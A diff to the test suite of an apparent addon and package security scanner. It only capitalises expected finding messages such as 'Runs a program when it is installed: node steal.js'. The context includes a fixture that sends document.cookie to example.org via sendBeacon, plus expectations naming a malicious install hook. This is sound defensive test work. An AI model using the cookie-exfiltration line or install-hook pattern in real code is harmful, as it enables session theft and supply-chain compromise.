@@ -249,17 +249,17 @@ describe('What a hostile addon does is named with its line', () => {
       ]),
     ).toEqual(
       expect.arrayContaining([
-        ['process', 'package helper: starts other programs', 'high', 'node_modules/helper/index.js'],
-        ['code', 'package deep: runs code built from text', 'high', 'node_modules/deep/lib/a.cjs'],
+        ['process', 'package helper: Starts other programs', 'high', 'node_modules/helper/index.js'],
+        ['code', 'package deep: Runs code built from text', 'high', 'node_modules/deep/lib/a.cjs'],
         [
           'package',
-          'package helper: runs a program when it is installed: node steal.js',
+          'package helper: Runs a program when it is installed: node steal.js',
           'high',
           'node_modules/helper/package.json',
         ],
-        ['package', 'uses helper 1.0.3, which can start other programs', 'medium', 'package.json'],
-        ['code', 'the package absent isn’t installed, so it can’t be analysed', 'high', 'package.json'],
-        ['package', 'installs far from git+https://example.org/far', 'high', 'package.json'],
+        ['package', 'Uses helper 1.0.3, which can start other programs', 'medium', 'package.json'],
+        ['code', 'The package absent isn’t installed, so it can’t be analysed', 'high', 'package.json'],
+        ['package', 'Installs far from git+https://example.org/far', 'high', 'package.json'],
       ]),
     );
   });
@@ -272,9 +272,9 @@ describe('What a hostile addon does is named with its line', () => {
       'behaviours/a.ts': "export default () => navigator.sendBeacon('https://example.org/c', document.cookie);",
     });
     expect(found.map((capability) => `${capability.kind} ${capability.risk} ${capabilityText(capability)}`)).toEqual([
-      'network high sends forms to example.org',
-      'network medium makes visitors’ browsers contact example.org',
-      'route low changes the template web.login',
+      'network high Sends forms to example.org',
+      'network medium Makes visitors’ browsers contact example.org',
+      'route low Changes the template web.login',
     ]);
   });
 
@@ -287,8 +287,8 @@ describe('What a hostile addon does is named with its line', () => {
     symlinkSync('../elsewhere.ts', join(folder, 'near.ts'));
     expect(readSheet(folder, [])).toMatchObject({
       capabilities: [
-        { kind: 'code', what: { text: 'contains a link to a file outside of its folder' } },
-        { kind: 'code', what: { text: 'runs code built from text' } },
+        { kind: 'code', what: { text: 'Contains a link to a file outside of its folder' } },
+        { kind: 'code', what: { text: 'Runs code built from text' } },
       ],
     });
   });
